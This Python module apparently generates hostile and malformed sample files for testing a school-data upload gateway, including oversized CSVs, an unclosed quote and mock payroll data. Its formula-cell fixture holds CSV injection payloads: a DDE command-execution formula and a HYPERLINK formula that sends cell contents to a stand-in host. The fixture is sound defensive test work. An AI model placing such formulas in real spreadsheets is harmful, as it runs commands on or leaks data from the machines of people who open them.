"""Foreign spreadsheets: payroll, transport, budgets, published statistics, and odd shapes."""

import csv
import io
import tomllib
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from random import Random
from typing import Literal

from gateway.samples.drawing import Cell, SampleTable
from gateway.samples.people import upn
from gateway.samples.presentation import PLAIN, Presentation, present

_LISTS = tomllib.loads(Path(__file__).with_name("tables.toml").read_text("utf-8"))["table"]
Kind = Literal["outside", "table", "binary", "broken", "trap", "archive"]


@dataclass(frozen=True, slots=True)
class Negative:
    """A file, its description (`what` is unique), and its kind.

    `outside` are known kinds of return not covered by the agreement, to be named in the receipt. `broken` are
    damaged files of the agreement. The rest is unknown or hostile.
    """

    what: str
    kind: Kind
    name: str
    content: bytes


def files(rng: Random) -> Iterator[Negative]:
    """Yield each list as CSV, payroll also as a workbook, and hostile spreadsheets."""
    for what, table in _lists(rng):
        yield Negative(what, "table", f"{what}.csv", present(table, "x.csv", PLAIN)[1])
    workbook = present(_payroll(rng), "x.csv", Presentation(container="xlsx"))[1]
    yield Negative("payroll workbook", "table", "payroll.xlsx", workbook)
    yield Negative("ten thousand columns", "trap", "wide.csv", _wide())
    cells = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org/?"&A1,"open")', "@SUM(1+1)", "+1+1", "-2"]
    formulas = _written([["=1+1", "=A1", "@x", "+y", "-z"], *([cells] * 40)])
    yield Negative("formula cells", "trap", "formulas.csv", formulas)
    large = _written([["UPN", "Surname", "Forename"], [upn("2000", 2019, 1), "x" * 5_000_000, "Ann"]])
    yield Negative("one cell of five million characters", "trap", "cell.csv", large)
    yield Negative("quote that never closes", "broken", "pupils.csv", _unclosed())


def _lists(rng: Random) -> Iterator[tuple[str, SampleTable]]:
    yield "payroll", _payroll(rng)
    for each in _LISTS:
        # Forty rows that begin alike and continue with numbers.
        rest = range(len(each["header"]) - len(each["first"]))
        rows = [[*each["first"], *(rng.randrange(999) for _ in rest)] for _ in range(40)]
        yield each["what"], SampleTable(header=each["header"], rows=rows)
    yield "numbers only", SampleTable(header=["a", "b"], rows=[[n, rng.randrange(10**6)] for n in range(50)])
    yield "upns only", SampleTable(header=["UPN"], rows=[[upn("2000", 2019, n)] for n in range(40)])


def _payroll(rng: Random) -> SampleTable:
    header = ["Employee", "Surname", "Forename", "Date of Birth", "Gender", "NI Number", "Grade", "Salary"]
    rows: list[list[Cell]] = [
        [9000 + n, "Mock", f"Test {n}", "01/02/1980", "F", f"ZZ{rng.randrange(10**6):06d}A", "M3", 31000 + n]
        for n in range(40)
    ]
    return SampleTable(header=header, rows=rows)


def _written(rows: Sequence[Sequence[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def _wide() -> bytes:
    known = ["UPN", "Surname", "Forename", "DOB", "Ethnicity", "SEN Status", "NCY"]
    header = known + [f"column {n}" for n in range(10_000 - len(known))]
    row = [upn("2000", 2019, 1), "Mock", "Ann", "01/02/2015", "WBRI", "N", "5"] + ["x"] * (
        10_000 - len(known)
    )
    return _written([header, *([row] * 30)])


def _unclosed() -> bytes:
    """Return a list of pupils whose first name opens a quote, turning the rest into one cell."""
    lines = ["UPN,Surname,Forename,DOB,Ethnicity,NCY", f'{upn("2000", 2019, 0)},"Mock,Ann,01/02/2015,WBRI,5']
    lines += [f"{upn('2000', 2019, n)},Mock,Ann,01/02/2015,WBRI,5" for n in range(1, 30)]
    return "\r\n".join(lines).encode()
